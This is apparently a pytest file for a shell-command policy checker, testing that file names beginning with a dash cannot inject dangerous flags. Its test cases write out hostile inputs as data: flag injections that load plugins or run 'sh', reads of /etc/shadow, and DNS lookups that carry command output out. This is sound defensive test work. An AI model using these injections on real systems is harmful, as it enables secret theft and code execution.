"""What a file may be called: a name that begins with a dash is a flag to whatever is given it."""

import pytest

from tests.policy.shell.workspace import analysed, effects, runs_unasked
from toolreeve.core.errors import ConfigError
from toolreeve.policy.shell.programs import spec, validation

HARMLESS = {
    name: found.harmless for name in spec.names() if (found := spec.program(name)) is not None and found.harmless
}
PRINTING = (
    "basename bzcat cal cat cmp colrm column comm cut df dir dirname echo expand factor fmt fold getfacl getopt "
    "gls groups head help id join locale look ls lsattr mountpoint namei ncal nl numfmt od paste pathchk pidof pr "
    "pstree pwdx readlink realpath rev rm seq sleep stat tac tail tr tsort type unexpand users vdir where whereis "
    "which yes"
)
READING = "du egrep fgrep grep gzcat hd hexdump locate mlocate plocate slocate zcat"


def test_every_program_that_may_be_given_flags_unseen_is_named_here() -> None:
    """To add one, look at every flag of every implementation: does one write, run, send or read a list of files?"""
    assert sorted(name for name, grade in HARMLESS.items() if grade is True) == PRINTING.split()
    assert sorted(name for name, grade in HARMLESS.items() if grade == "reads") == READING.split()


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("nm *", "@opts, in which --plugin ./evil.so"),
        ("git ls-files -z -o | xargs -0 nm", "--plugin=./evil.so"),
        ("objdump -d *", "@opts"),
        ("readelf -h [@x]*", "@opts"),
        ("sdiff [-ab]*", "--diff-program=touch"),
        ("diff3 *", "--diff-program=sh"),
        ("colordiff *", "--difftype=x"),
        ("systemctl status *", "-Hevil.example"),
        ("journalctl *", "--rotate"),
        ("jobs *", "-x"),
        ("git grep -e ERROR *", "-Osh"),
        ("rg foo *", "--pre=sh"),
        ("ag foo *", "--pager=sh"),
        ("bat *", "--pager=sh"),
        ("pidstat *", "-esh"),
        ('getconf "$x"', "-v"),
    ],
)
def test_a_name_cannot_run_a_program(command: str, name: str) -> None:
    assert not analysed(command).known, name


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("file *", "-C"),
        ("zstdcat *", "-o"),
        ("lz4cat *", "--rm"),
        ("ss *", "-Dpwned"),
        ("netstat *", "-Dpwned"),
        ("xmllint *", "--output=pwned"),
        ("base64 *", "-opwned"),
        ("less *", "-opwned"),
        ("pmap *", "-Npwned"),
        ("units *", "-Hpwned"),
        ("lsof *", "-Dbpwned"),
        ("sdiff *", "-opwned"),
    ],
)
def test_a_name_cannot_write_a_file(command: str, name: str) -> None:
    assert not analysed(command).known, name


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("wc [-]*", "--files0-from=.list"),
        ("wc -l *", "--files0-from=.list"),
        ('for f in *.md; do wc -l "$f"; done', "--files0-from=list.md"),
        ("git ls-files -z | xargs -0 wc -l", "--files0-from=list"),
        ("file *", "-flist"),
        ("md5sum *", "-c"),
        ("sha256sum *", "-c"),
        ("xzcat *", "--files=list"),
        ("lzcat *", "--files=list"),
        ("strings *", "@list"),
        ("size *", "@list"),
        ("pcregrep x *", "--file-list=list"),
        ("diff *", "--from-file=.."),
        ("zdiff *", "--from-file=.."),
        ("du $(cat names)", "--files0-from=/etc/shadow"),
        ("cat names | xargs du", "--files0-from=/etc/shadow"),
        ('grep "$pattern" x', "-f/etc/shadow"),
        ("ls | xargs grep x", "-f/etc/shadow"),
        ("grep x */*.c", "-f../x.c"),
        ('for f in *; do grep "$f" ../x; done', "-r"),
        ("shopt -s globstar; grep x **", "-f../x"),
        ("ls | xargs zcat", "-r"),
    ],
)
def test_a_name_cannot_choose_what_else_is_read(command: str, name: str) -> None:
    assert not analysed(command).known, name


@pytest.mark.parametrize(
    "command",
    [
        "wc -l -- *",
        "wc -l ./*",
        'for f in *.md; do wc -l -- "$f"; done',
        "git ls-files -z | xargs -0 wc -l --",
        "md5sum -- *.iso",
        "strings ./*.o",
        "nm lib/*.a",
        "file src/*",
        "grep x -- */*.c",
        'grep -- "$pattern" x',
        'grep -e "$pattern" x',
        "diff -- a*",
        "find . -name '*.xz' -print0 | xargs -0 xzcat",
    ],
)
def test_a_name_that_cannot_be_a_flag_is_known(command: str) -> None:
    assert runs_unasked(command), analysed(command).reason


def test_the_reason_says_what_to_write_instead() -> None:
    assert analysed("wc -l *.md").reason == "not known: `*.md` may expand to a flag (put `--` before it)"


@pytest.mark.parametrize("command", ["grep x *", "grep x *.txt", "egrep x *", "zcat *.gz", "hexdump -C *", "du -a *"])
def test_a_name_that_makes_it_read_more_makes_it_read_the_folder(command: str) -> None:
    found = analysed(command)

    assert runs_unasked(command), found.reason
    assert any(effect.touches("/project/sub/x.txt") for effect in found.effects)


def test_a_name_that_makes_it_read_trees_does_so_of_every_operand() -> None:
    assert "read:/project/src" in effects("cd docs; grep x * ../src")
    assert any(effect.touches("/etc/shadow") for effect in analysed("grep x * /etc").effects)
    assert not runs_unasked("grep x * /etc")
    assert not runs_unasked("zcat * /etc")


@pytest.mark.parametrize("pattern", ["/etc/shadow", "../x/secret", "..", '"a$b"'])
def test_a_name_that_is_the_pattern_makes_the_pattern_a_file(pattern: str) -> None:
    assert not runs_unasked(f"grep {pattern} *")
    assert runs_unasked(f"grep -e {pattern} -- *")


def test_what_follows_a_name_may_be_its_value() -> None:
    assert "read:/etc/shadow" in effects("nl * -s /etc/shadow")
    assert not runs_unasked("nl * -s /etc/shadow")
    assert not runs_unasked("grep x * -- -f/etc/shadow")
    assert "read:/etc/hosts" in effects("nl -s x * /etc/hosts")


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("realpath -z * | xargs -0 cat", "--relative-to=dir"),
        ("grep -lZ x * | xargs -0 cat", "--label=.."),
        ("ls --zero * | xargs -0 cat", "-a"),
        ('cat "$(ls -t *.log | head -n 1)"', "-aI.log"),
        ("id -u * | xargs cat", "-Gn"),
    ],
)
def test_what_is_printed_is_not_believed_if_a_name_may_change_it(command: str, name: str) -> None:
    assert not runs_unasked(command), name


@pytest.mark.parametrize(
    "command",
    [
        "grep -v -e /etc/shadow* README.md",
        "grep -v -e ../* README.md",
        "grep -v -e $(cat patterns) f",
        "grep -r --include *.txt foo src",
        "paste -d ../* f",
        "head -n $(cat n) a.txt",
        "diff -x *.o a b",
        "ps -p $(pgrep x)",
        "sort -k ${keys[@]} x",
        'a=(x y); sort -k "${a[@]}" f',
    ],
)
def test_a_value_that_may_be_several_words_is_not_known(command: str) -> None:
    assert not analysed(command).known


@pytest.mark.parametrize(
    "command",
    [
        "grep -rn foo --include=*.py src",
        "grep -v -e '/etc/shadow*' README.md",
        'grep -e "$(cat patterns)" f',
        "ls --ignore=*.o",
        "rg --glob=*.py foo",
        "diff --exclude=*.o a b",
    ],
)
def test_a_pattern_that_is_part_of_its_flag_is_one_word_each_time(command: str) -> None:
    assert runs_unasked(command), analysed(command).reason


def test_a_pattern_in_a_flag_whose_text_counts_is_not_known() -> None:
    assert not analysed("sed --expression=* x").known
    assert not analysed("sort --output=* x").known
    assert not analysed("rg --pre=* x").known


@pytest.mark.parametrize(
    "command",
    [
        "printf /etc/shadow | sort --files0-from=-",
        "wc --files0-from=list",
        "du --files0-from=list",
        "file -f list",
        "printf /etc/shadow | file -f -",
        "md5sum -c sums",
        "shasum --check sums",
        "xz -dc --files=list",
        "strings @list",
        "strings -- @list",
        "nm -- @list",
        "objdump -j @list x",
        "ar t @list",
        "7z h @list",
        "unrar p a.rar @list",
        "fping -f hosts",
        "mtr -F hosts",
        "shellcheck -x x.sh",
        "zdiff a.gz",
        "grep -d recurse x ..",
        "grep --directories=recurse x ..",
        "jar tf a.jar @list",
        "7z h '../*'",
        "unrar p '../*.rar'",
        "cloc --vcs=git",
        "openssl pkcs12 -in a -noout -passin file:/etc/shadow",
        "diff -l a b",
    ],
)
def test_what_a_file_says_is_read_contacted_or_run_is_not_known(command: str) -> None:
    assert not analysed(command).known


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("gzip -rc src", "read:/project/src"),
        ("gunzip -c src", "read:/project/src"),
        ("sdiff src f", "read:/project/src"),
        ("colordiff -r src f", "read:/project/src"),
        ("diff -N --from-file=src f g", "read:/project/src"),
        ("diff -N --to-file=src f g", "read:/project/src"),
    ],
)
def test_a_tree_that_may_be_read_is_read_as_one(command: str, effect: str) -> None:
    assert effect in effects(command)
    assert any(found.touches("/project/src/x") for found in analysed(command).effects)


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("sort -T src x", "write:/project/src"),
        ("openssl x509 -in a.crt -noout -text", "read:/project/a.crt"),
        ("pgrep -F x.pid", "read:/project/x.pid"),
        ("ss --filter=x", "read:/project/x"),
        ("modinfo ./x.ko", "read:/project/x.ko"),
        ("lspci -i ids", "read:/project/ids"),
        ("7z h src", "read:/project/src"),
        ("mktemp -p src", "write:/project/src"),
        ("whois example.com", "net:whois"),
        ("getent hosts example.com", "net:example.com"),
        ("getent ahosts example.com", "net:example.com"),
        ("resolvectl query example.com", "net:example.com"),
    ],
)
def test_a_value_is_read_written_or_contacted_as_it_is(command: str, effect: str) -> None:
    assert effect in effects(command)


def test_sort_keeps_its_own_files_where_it_always_does() -> None:
    assert runs_unasked("sort -T /tmp x")
    assert not runs_unasked("sort -T src x")


@pytest.mark.parametrize("command", ["printenv A*", 'printenv "$x"', "printenv $(echo API_TOKEN)"])
def test_a_variable_is_printed_by_its_name_only(command: str) -> None:
    assert not runs_unasked(command)
    assert runs_unasked("printenv PATH LANG")


@pytest.mark.parametrize("command", ["getent ahosts x$(whoami).example.com", "resolvectl query $(cat x).example.com"])
def test_a_name_that_is_looked_up_cannot_carry_what_was_read(command: str) -> None:
    assert not analysed(command).known


@pytest.mark.parametrize("command", ["info ./x", "info /etc/shadow", "lspci -q", "lastlog -C -u x"])
def test_programs_that_seem_to_tell_do_not_show_clear_or_ask_elsewhere_unasked(command: str) -> None:
    assert not runs_unasked(command)


@pytest.mark.parametrize("command", ["sdiff a b", "diff3 a b c", "colordiff a b"])
def test_programs_made_of_another_say_so(command: str) -> None:
    assert "exec:diff" in [str(effect) for effect in analysed(command).effects]


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        ({"harmless": "maybe"}, "must be true or 'reads'"),
        ({"harmless": "reads"}, "needs the flags that read more"),
        ({"harmless": True, "prints": "paths", "rewrites": "-l"}, "needs a flag that rewrites"),
        ({"harmless": True, "modes": {"-l": {"prints": "paths"}}}, "needs a flag that rewrites"),
    ],
)
def test_a_specification_says_what_a_word_may_turn_out_to_be(data: dict[str, object], problem: str) -> None:
    with pytest.raises(ConfigError, match=problem):
        validation.check("x.yaml", "x", data, frozenset({""}))
